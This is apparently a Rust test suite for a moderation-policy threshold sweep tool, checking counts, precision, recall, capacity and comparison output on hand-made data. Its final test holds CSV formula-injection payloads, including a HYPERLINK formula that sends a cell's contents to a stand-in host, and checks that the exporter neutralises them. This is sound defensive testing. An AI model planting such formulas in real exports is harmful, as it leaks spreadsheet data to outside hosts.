//! Threshold sweeps and policy comparisons on a hand-made run folder whose every figure is
//! worked out below by hand.

use std::fs::File;
use std::path::{Path, PathBuf};

use groupwatch::io::{col, frame, write_parquet};
use groupwatch::policy::Policy;
use groupwatch::schema::EntityKind;
use groupwatch::run_folder::RunFolderError;
use groupwatch::sweep::{self, Counts, Label, Sweep, SweepError};
use groupwatch::ExitCode;
use polars::prelude::*;

/// One row of `policy_facts.parquet`.
struct Fact {
    kind: &'static str,
    id: u64,
    score: Option<f64>,
    members: Option<u64>,
    hash: bool,
    admin: bool,
    cs: u64,
}

const fn g(id: u64, score: f64, members: Option<u64>) -> Fact {
    Fact { kind: "group", id, score: Some(score), members, hash: false, admin: false, cs: 0 }
}

const fn a(id: u64, score: f64) -> Fact {
    Fact { kind: "account", id, score: Some(score), members: None, hash: false, admin: false, cs: 0 }
}

/// The run. With the default policy (groups >= 0.5 with >= 3 members, accounts >= 0.7, rules:
/// hash match, violating admin, >= 3 child-safety reports):
///
/// | entity | score | members | rule | label |
/// |---|---|---|---|---|
/// | group 1 | 0.95 | 10 | | violating |
/// | group 2 | 0.80 | 10 | | violating |
/// | group 3 | 0.60 | 10 | | benign |
/// | group 4 | 0.40 | 10 | | violating |
/// | group 5 | 0.20 | 10 | | benign |
/// | group 6 | 0.90 | 2 (too small) | | violating |
/// | group 7 | 0.10 | 5 | hash match | |
/// | group 8 | 0.70 | null (too small) | | |
/// | group 9 | 0.55 | 4 | | |
/// | account 1 | 0.90 | | | violating |
/// | account 101 | 0.75 | | | benign |
/// | account 102 | 0.50 | | | violating |
/// | account 103 | 0.30 | | 5 reports | |
/// | account 104 | 0.05 | | | benign (appeal: violating, then benign) |
/// | account 105 | null | | | |
/// | account 50 | 0.75 | | | |
///
/// plus a label on group 999, which the run did not score.
fn facts() -> Vec<Fact> {
    vec![
        g(1, 0.95, Some(10)),
        g(2, 0.80, Some(10)),
        g(3, 0.60, Some(10)),
        g(4, 0.40, Some(10)),
        g(5, 0.20, Some(10)),
        g(6, 0.90, Some(2)),
        Fact { hash: true, ..g(7, 0.10, Some(5)) },
        g(8, 0.70, None),
        g(9, 0.55, Some(4)),
        a(1, 0.90),
        a(101, 0.75),
        a(102, 0.50),
        Fact { cs: 5, ..a(103, 0.30) },
        a(104, 0.05),
        Fact { score: None, ..a(105, 0.0) },
        a(50, 0.75),
    ]
}

/// (kind, id, label, ts ms). Account 104's later benign row comes first in the file, so
/// "the later row wins" would get it wrong.
fn labels() -> Vec<(&'static str, u64, &'static str, i64)> {
    vec![
        ("group", 1, "violating", 1_000),
        ("group", 2, "violating", 1_000),
        ("group", 3, "benign", 1_000),
        ("group", 4, "violating", 1_000),
        ("group", 5, "benign", 1_000),
        ("group", 6, "violating", 1_000),
        ("group", 999, "violating", 1_000),
        ("account", 1, "violating", 1_000),
        ("account", 101, "benign", 1_000),
        ("account", 102, "violating", 1_000),
        ("account", 104, "benign", 5_000),
        ("account", 104, "violating", 2_000),
    ]
}

fn write_facts(dir: &Path, rows: &[Fact]) {
    let mut df = frame(vec![
        col::static_strs("entity_kind", rows.iter().map(|r| r.kind).collect()),
        col::u64s("entity_id", rows.iter().map(|r| r.id).collect()),
        Column::new("score".into(), rows.iter().map(|r| r.score).collect::<Vec<Option<f64>>>()),
        col::opt_u64s("members_now", rows.iter().map(|r| r.members).collect()),
        col::bools("hash_match", rows.iter().map(|r| r.hash).collect()),
        col::bools("violating_admin", rows.iter().map(|r| r.admin).collect()),
        col::u64s("child_safety_reports", rows.iter().map(|r| r.cs).collect()),
    ])
    .unwrap();
    write_parquet(&mut df, &dir.join("policy_facts.parquet")).unwrap();
}

/// Writes `labels.parquet` with a millisecond timestamp, or with Int64 ids and epoch-ms times.
fn write_labels(dir: &Path, rows: &[(&'static str, u64, &'static str, i64)], int64: bool) {
    let kind = col::static_strs("entity_kind", rows.iter().map(|r| r.0).collect());
    let label = col::static_strs("label", rows.iter().map(|r| r.2).collect());
    let ts: Vec<i64> = rows.iter().map(|r| r.3).collect();
    let mut df = if int64 {
        let ids: Vec<i64> = rows.iter().map(|r| r.1 as i64).collect();
        frame(vec![kind, Column::new("entity_id".into(), ids), label, Column::new("ts".into(), ts)])
    } else {
        frame(vec![kind, col::u64s("entity_id", rows.iter().map(|r| r.1).collect()), label, col::times("ts", ts).unwrap()])
    }
    .unwrap();
    write_parquet(&mut df, &dir.join("labels.parquet")).unwrap();
}

/// A run folder `run=2026-11-24` in a fresh temp dir.
fn run_folder() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("run=2026-11-24");
    std::fs::create_dir(&dir).unwrap();
    write_facts(&dir, &facts());
    write_labels(&dir, &labels(), false);
    (tmp, dir)
}

fn policy() -> Policy {
    let mut p = Policy::default_policy();
    p.review.daily_capacity = 5;
    p
}

/// The row at threshold `t`.
fn row(s: &Sweep, t: f64) -> &groupwatch::sweep::Figures {
    let r = s.rows.iter().find(|r| (r.threshold - t).abs() < 1e-12).unwrap_or_else(|| panic!("no row at {t}"));
    &r.figures
}

/// (flagged, flagged labelled, true positives).
fn tally(c: &Counts) -> (usize, usize, usize) {
    (c.flagged, c.flagged_labelled, c.true_positives)
}

fn close(x: f64, y: f64) -> bool {
    (x - y).abs() < 1e-12
}

/// Precision and recall values, checked against their own Wilson intervals.
fn pr(c: &Counts, violating: usize) -> (Option<f64>, Option<f64>) {
    if let Some(p) = c.precision {
        assert_eq!(Some(p), sweep::wilson(c.true_positives, c.flagged_labelled));
    }
    assert_eq!(c.recall, sweep::wilson(c.true_positives, violating));
    (c.precision.map(|i| i.value), c.recall.map(|i| i.value))
}

#[test]
fn counts_precision_and_recall_by_threshold() {
    let (_tmp, dir) = run_folder();
    let s = sweep::sweep(&dir, &policy(), 100).unwrap();
    assert_eq!(s.rows.len(), 101);
    assert_eq!((s.rows[0].threshold, s.rows[100].threshold), (0.0, 1.0));
    assert!(s.rows.windows(2).all(|w| w[0].threshold < w[1].threshold));

    assert_eq!((s.groups.scored, s.accounts.scored), (9, 7));
    let (gl, al) = (s.groups.labels, s.accounts.labels);
    assert_eq!((gl.violating, gl.benign, gl.unscored), (4, 2, 1));
    // Account 104's latest label is benign.
    assert_eq!((al.violating, al.benign, al.unscored), (2, 2, 0));

    // t = 0: every group big enough (not 6 or 8) and every account with a score (not 105).
    let f = row(&s, 0.0);
    assert_eq!(tally(&f.groups), (7, 5, 3));
    assert_eq!(tally(&f.accounts), (6, 4, 2));
    assert_eq!(tally(&f.total), (13, 9, 5));
    assert!(close(f.total.review_hours, 13.0 * 0.25));
    let (p, r) = pr(&f.groups, 4);
    assert!(close(p.unwrap(), 3.0 / 5.0) && close(r.unwrap(), 3.0 / 4.0));

    // t = 0.5: groups 1, 2, 3, 9 and 7 (rule); accounts 1, 101, 102 (0.50 >= 0.5), 50, 103 (rule).
    let f = row(&s, 0.5);
    assert_eq!(tally(&f.groups), (5, 3, 2));
    assert_eq!(tally(&f.accounts), (5, 3, 2));
    assert_eq!(tally(&f.total), (10, 6, 4));
    let (p, r) = pr(&f.groups, 4);
    assert!(close(p.unwrap(), 2.0 / 3.0) && close(r.unwrap(), 0.5));
    let (p, r) = pr(&f.accounts, 2);
    assert!(close(p.unwrap(), 2.0 / 3.0) && close(r.unwrap(), 1.0));
    let (p, r) = pr(&f.total, 6);
    assert!(close(p.unwrap(), 4.0 / 6.0) && close(r.unwrap(), 4.0 / 6.0));
    assert!(close(f.groups.review_hours, 1.25) && close(f.total.review_hours, 2.5));

    // t = 0.8: groups 1, 2 (0.80 >= 0.8) and 7; accounts 1 and 103.
    let f = row(&s, 0.8);
    assert_eq!(tally(&f.groups), (3, 2, 2));
    assert_eq!(tally(&f.accounts), (2, 1, 1));
    assert_eq!(tally(&f.total), (5, 3, 3));

    // t = 1: the rules alone; nothing labelled is flagged, so precision is undefined.
    let f = row(&s, 1.0);
    assert_eq!(tally(&f.total), (2, 0, 0));
    assert_eq!(f.total.precision, None);
    assert_eq!(pr(&f.groups, 4), (None, Some(0.0)));

    // Flagged counts never rise with the threshold.
    assert!(s.rows.windows(2).all(|w| w[1].figures.total.flagged <= w[0].figures.total.flagged));
}

#[test]
fn current_policy_uses_each_kinds_threshold() {
    let (_tmp, dir) = run_folder();
    let s = sweep::sweep(&dir, &policy(), 100).unwrap();
    // Groups >= 0.5 as above; accounts >= 0.7: 1, 101, 50 and 103 (rule).
    let c = &s.current;
    assert_eq!(tally(&c.groups), (5, 3, 2));
    assert_eq!(tally(&c.accounts), (4, 2, 1));
    assert_eq!(tally(&c.total), (9, 5, 3));
    let (p, r) = pr(&c.accounts, 2);
    assert!(close(p.unwrap(), 0.5) && close(r.unwrap(), 0.5));
    assert!(close(c.total.review_hours, 2.25));
}

#[test]
fn capacity_threshold_is_the_smallest_that_fits() {
    let (_tmp, dir) = run_folder();
    // Totals: 2 rule flags + scores >= t among 0.95, 0.90, 0.80, 0.75, 0.75, ...: 7 at 0.75, 5 at 0.76.
    let s = sweep::sweep(&dir, &policy(), 100).unwrap();
    let t = s.capacity_threshold.unwrap();
    assert!(close(t, 0.76), "{t}");
    assert_eq!(row(&s, 0.75).total.flagged, 7);
    assert_eq!(s.capacity_row().unwrap().figures.total.flagged, 5);

    let mut p = policy();
    p.review.daily_capacity = 13;
    assert_eq!(sweep::sweep(&dir, &p, 100).unwrap().capacity_threshold, Some(0.0));
    // The two rule flags alone exceed a capacity of one.
    p.review.daily_capacity = 1;
    assert_eq!(sweep::sweep(&dir, &p, 100).unwrap().capacity_threshold, None);
    // A coarser grid: 0, 0.25, 0.5, 0.75, 1 -> 1.0 is the first with <= 5 (0.75 flags 7).
    p.review.daily_capacity = 5;
    assert_eq!(sweep::sweep(&dir, &p, 4).unwrap().capacity_threshold, Some(1.0));
}

#[test]
fn rules_flag_whatever_the_threshold() {
    let (_tmp, dir) = run_folder();
    let s = sweep::sweep(&dir, &policy(), 10).unwrap();
    let top = row(&s, 1.0);
    assert_eq!((top.groups.flagged, top.accounts.flagged), (1, 1), "hash match and reports rules");

    let mut off = policy();
    off.rules.hash_match_always_review = false;
    off.rules.child_safety_reports_at_least = None;
    let s = sweep::sweep(&dir, &off, 10).unwrap();
    assert_eq!(row(&s, 1.0).total.flagged, 0);
    assert_eq!(row(&s, 0.5).total.flagged, 8);
    // Group 7 (0.10) still passes the threshold at 0.1.
    assert_eq!(row(&s, 0.1).groups.flagged, 7);
    assert_eq!(row(&s, 0.2).groups.flagged, 6);
}

#[test]
fn min_group_size_gates_thresholds() {
    let (_tmp, dir) = run_folder();
    let mut p = policy();
    p.review.min_group_size = 2;
    // Group 6 (0.90, 2 members) now passes; group 8 (unknown size) still does not.
    let s = sweep::sweep(&dir, &p, 100).unwrap();
    assert_eq!(tally(&row(&s, 0.5).groups), (6, 4, 3));
    assert_eq!(tally(&row(&s, 0.85).groups), (3, 2, 2));
    p.review.min_group_size = 11;
    let s = sweep::sweep(&dir, &p, 100).unwrap();
    assert_eq!(row(&s, 0.0).groups.flagged, 1, "only the rule");
}

#[test]
fn wilson_interval_on_a_known_case() {
    let i = sweep::wilson(8, 10).unwrap();
    assert_eq!((format!("{:.3}", i.low), format!("{:.3}", i.high)), ("0.490".to_string(), "0.943".to_string()));
    assert!(close(i.value, 0.8));
    // 2/3: centre (p + z²/2n)/(1 + z²/n), half-width z·sqrt(p(1-p)/n + z²/4n²)/(1 + z²/n).
    let (z, n, p) = (1.959963984540054f64, 3.0, 2.0 / 3.0);
    let d = 1.0 + z * z / n;
    let (c, h) = ((p + z * z / (2.0 * n)) / d, z * (p * (1.0 - p) / n + z * z / (4.0 * n * n)).sqrt() / d);
    let w = sweep::wilson(2, 3).unwrap();
    assert!(close(w.low, c - h) && close(w.high, c + h), "{w:?}");
    assert_eq!(sweep::wilson(0, 0), None);
}

#[test]
fn labels_with_int64_ids_and_epoch_times_read_the_same() {
    let (_tmp, dir) = run_folder();
    let a = sweep::sweep(&dir, &policy(), 100).unwrap();
    write_labels(&dir, &labels(), true);
    let b = sweep::sweep(&dir, &policy(), 100).unwrap();
    assert_eq!(a.rows, b.rows);
    assert_eq!((a.groups, a.accounts), (b.groups, b.accounts));
}

#[test]
fn compare_lists_what_each_policy_alone_flags() {
    let (_tmp, dir) = run_folder();
    let a = Policy::default_policy();
    let mut b = Policy::default_policy();
    b.name = "strict-accounts".into();
    b.review.group_threshold = 0.3;
    b.review.account_threshold = 0.95;
    let c = sweep::compare(&dir, &a, &b).unwrap();
    assert_eq!((c.a.as_str(), c.b.as_str()), ("default", "strict-accounts"));
    assert_eq!((c.flagged_a.groups, c.flagged_a.accounts), (5, 4));
    assert_eq!((c.flagged_b.groups, c.flagged_b.accounts), (6, 1));
    assert_eq!((c.only_a_counts.total(), c.only_b_counts.total()), (3, 1));
    // By score descending, then id: account 50 and 101 tie at 0.75.
    let only_a: Vec<(EntityKind, u64)> = c.only_a.iter().map(|d| (d.kind, d.id)).collect();
    assert_eq!(only_a, [(EntityKind::Account, 1), (EntityKind::Account, 50), (EntityKind::Account, 101)]);
    assert_eq!(c.only_a[0].reasons, ["threshold:account>=0.70"]);
    assert_eq!(c.only_a[0].label, Some(Label::Violating));
    assert_eq!(c.only_b.len(), 1);
    assert_eq!((c.only_b[0].kind, c.only_b[0].id, c.only_b[0].score), (EntityKind::Group, 4, 0.4));
    assert_eq!(c.only_b[0].reasons, ["threshold:group>=0.30"]);

    let csv = sweep::compare_csv(&c);
    assert_eq!(
        csv,
        "flagged_only_by,entity_kind,entity_id,score,label,reasons\n\
         A,account,1,0.900000,violating,threshold:account>=0.70\n\
         A,account,50,0.750000,,threshold:account>=0.70\n\
         A,account,101,0.750000,benign,threshold:account>=0.70\n\
         B,group,4,0.400000,violating,threshold:group>=0.30\n"
    );
    let out = tempfile::tempdir().unwrap();
    let path = sweep::write_comparison(&c, Some(out.path())).unwrap();
    assert_eq!(std::fs::read_to_string(path).unwrap(), csv);
    assert!(sweep::compare_summary(&c).contains("only A"));

    // A policy compared with itself differs nowhere.
    let same = sweep::compare(&dir, &a, &a).unwrap();
    assert!(same.only_a.is_empty() && same.only_b.is_empty());
}

#[test]
fn csv_is_byte_stable_and_matches_the_parquet() {
    let (_tmp, dir) = run_folder();
    let out1 = tempfile::tempdir().unwrap();
    let out2 = tempfile::tempdir().unwrap();
    let s1 = sweep::sweep(&dir, &policy(), 100).unwrap();
    let s2 = sweep::sweep(&dir, &policy(), 100).unwrap();
    let f1 = sweep::write_sweep(&s1, Some(out1.path())).unwrap();
    let f2 = sweep::write_sweep(&s2, Some(out2.path())).unwrap();
    let (c1, c2) = (std::fs::read(&f1.csv).unwrap(), std::fs::read(&f2.csv).unwrap());
    assert_eq!(c1, c2);
    assert_eq!(std::fs::read(&f1.svg).unwrap(), std::fs::read(&f2.svg).unwrap());

    let csv = String::from_utf8(c1).unwrap();
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines.len(), 102);
    let header: Vec<&str> = lines[0].split(',').collect();
    assert_eq!(header.len(), 31);
    assert_eq!(&header[..5], ["threshold", "group_flagged", "group_flagged_labelled", "group_true_positives", "group_precision"]);
    assert_eq!(header[30], "total_review_hours");
    // t = 0.5, groups: 5 flagged, 3 labelled, 2 violating; precision 2/3; recall 2/4.
    assert!(lines[51].starts_with("0.500000,5,3,2,0.666667,"), "{}", lines[51]);
    let cells: Vec<&str> = lines[51].split(',').collect();
    assert_eq!(cells[header.iter().position(|h| *h == "group_recall").unwrap()], "0.500000");
    assert_eq!(cells[30], "2.500000");
    // t = 1: precision undefined -> empty.
    let last: Vec<&str> = lines[101].split(',').collect();
    assert_eq!((last[0], last[4], last[5]), ("1.000000", "", ""));

    let df = ParquetReader::new(File::open(&f1.parquet).unwrap()).finish().unwrap();
    assert_eq!(df.shape(), (101, 31));
    let names: Vec<String> = df.get_column_names().iter().map(|n| n.to_string()).collect();
    assert_eq!(names, header);
    assert_eq!(df.column("group_flagged").unwrap().u64().unwrap().get(50), Some(5));
    assert_eq!(df.column("total_precision").unwrap().f64().unwrap().get(100), None);
    assert_eq!(df.column("total_recall").unwrap().f64().unwrap().get(100), Some(0.0));
}

#[test]
fn writes_default_to_the_run_folder() {
    let (_tmp, dir) = run_folder();
    let s = sweep::sweep(&dir, &policy(), 20).unwrap();
    let files = sweep::write_sweep(&s, None).unwrap();
    for (p, name) in [(&files.parquet, "sweep.parquet"), (&files.csv, "sweep.csv"), (&files.svg, "sweep.svg")] {
        assert_eq!(*p, dir.join(name));
        assert!(p.is_file(), "{}", p.display());
    }
    // No temporary files left behind.
    let stray: Vec<_> = std::fs::read_dir(&dir).unwrap().filter_map(|e| e.ok()).filter(|e| e.file_name().to_string_lossy().starts_with('.')).collect();
    assert!(stray.is_empty());
}

#[test]
fn svg_is_a_self_contained_chart_with_a_legend() {
    let (_tmp, dir) = run_folder();
    let s = sweep::sweep(&dir, &policy(), 100).unwrap();
    let svg = sweep::sweep_svg(&s);
    assert!(svg.starts_with("<svg xmlns=\"http://www.w3.org/2000/svg\""));
    assert!(svg.trim_end().ends_with("</svg>"));
    for text in [
        "groups precision",
        "groups recall",
        "accounts precision",
        "accounts recall",
        "groups flagged",
        "accounts flagged",
        "all flagged",
        "daily capacity (5)",
        "policy threshold",
        "threshold that fills capacity",
        "policy groups 0.50",
        "policy accounts 0.70",
        "fills capacity 0.76",
        "score threshold",
        "precision / recall (labelled entities)",
        "entities flagged (log scale)",
        "run=2026-11-24",
    ] {
        assert!(svg.contains(&format!(">{text}<")) || svg.contains(text), "missing {text:?}");
    }
    // Tags balance and nothing external is referenced.
    assert_eq!(svg.matches("<text").count(), svg.matches("</text>").count());
    assert_eq!(svg.matches("<svg").count(), 1);
    assert!(!svg.contains("href"));
    // Accounts are dashed: the accounts' lines carry a dash pattern.
    assert!(svg.contains("stroke-dasharray=\"7 4\""));
}

#[test]
fn summary_reads_for_a_policy_lead() {
    let (_tmp, dir) = run_folder();
    let s = sweep::sweep(&dir, &policy(), 100).unwrap();
    let text = sweep::summary(&s);
    assert!(text.contains("Policy \"default\" on run=2026-11-24"), "{text}");
    assert!(text.contains("9 groups and 7 accounts scored"), "{text}");
    assert!(text.contains("1 labelled entities were not scored"), "{text}");
    // Current policy: 9 flagged, 2.25 h against 5 reviews (1.25 h).
    assert!(text.contains("2.25 h for 9 reviews against a capacity of 5 reviews (1.25 h) a day: 4 over capacity"), "{text}");
    assert!(text.contains("precision 0.667 [0.208, 0.939]"), "groups 2/3: {text}");
    assert!(text.contains("one threshold of 0.76 for both kinds flags 5 (1.25 h) <= 5"), "{text}");
    assert!(text.contains("Networks: not available yet"), "{text}");
    assert!(text.lines().count() <= 10);
}

#[test]
fn bad_run_folders_are_bad_input() {
    let tmp = tempfile::tempdir().unwrap();
    let missing = tmp.path().join("run=2001-01-01");
    let e = sweep::sweep(&missing, &policy(), 100).unwrap_err();
    assert!(matches!(e, SweepError::RunFolder(RunFolderError::NotAFolder { .. })) && e.is_bad_input(), "{e}");

    let (_tmp, dir) = run_folder();
    std::fs::remove_file(dir.join("labels.parquet")).unwrap();
    let e = sweep::sweep(&dir, &policy(), 100).unwrap_err();
    assert!(matches!(e, SweepError::RunFolder(RunFolderError::Missing { .. })) && e.is_bad_input(), "{e}");
    assert!(e.to_string().contains("labels.parquet"), "{e}");

    let (_tmp2, dir) = run_folder();
    let mut rows = facts();
    rows[3].kind = "network";
    write_facts(&dir, &rows);
    let e = sweep::compare(&dir, &policy(), &policy()).unwrap_err();
    assert!(matches!(e, SweepError::RunFolder(RunFolderError::Value { row: 3, .. })) && e.is_bad_input(), "{e}");

    let (_tmp3, dir) = run_folder();
    std::fs::write(dir.join("policy_facts.parquet"), b"not parquet").unwrap();
    let e = sweep::sweep(&dir, &policy(), 100).unwrap_err();
    assert!(matches!(e, SweepError::RunFolder(RunFolderError::Read { .. })) && e.is_bad_input(), "{e}");

    let e = sweep::sweep(&dir, &policy(), 0).unwrap_err();
    assert!(e.is_bad_input(), "{e}");
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers() {
    let hostile = |kind, id, score, reasons: &[&str]| sweep::Difference {
        kind,
        id,
        score,
        label: None,
        reasons: reasons.iter().map(|r| r.to_string()).collect(),
    };
    let c = sweep::Comparison {
        run_dir: PathBuf::from("/runs/run=2026-11-24"),
        a: "a".into(),
        b: "b".into(),
        flagged_a: Default::default(),
        flagged_b: Default::default(),
        only_a_counts: Default::default(),
        only_b_counts: Default::default(),
        only_a: vec![
            hostile(EntityKind::Group, 1, 0.5, &["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"]),
            hostile(EntityKind::Group, 2, 0.25, &["+1+1", "rule:x"]),
            hostile(EntityKind::Account, 3, 0.125, &["-2+3"]),
            hostile(EntityKind::Account, 4, 0.0, &["@SUM(A1:A2)"]),
        ],
        only_b: vec![hostile(EntityKind::Group, 5, 1.0, &["\tcmd"]), hostile(EntityKind::Group, 6, 1.0, &["\r=1"]), hostile(EntityKind::Group, 7, 1.0, &["rule:ok"])],
    };
    let csv = sweep::compare_csv(&c);
    assert_eq!(
        csv,
        "flagged_only_by,entity_kind,entity_id,score,label,reasons\n\
         A,group,1,0.500000,,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\"\n\
         A,group,2,0.250000,,\"'+1+1;rule:x\"\n\
         A,account,3,0.125000,,\"'-2+3\"\n\
         A,account,4,0.000000,,\"'@SUM(A1:A2)\"\n\
         B,group,5,1.000000,,\"'\tcmd\"\n\
         B,group,6,1.000000,,\"'\r=1\"\n\
         B,group,7,1.000000,,rule:ok\n"
    );
}
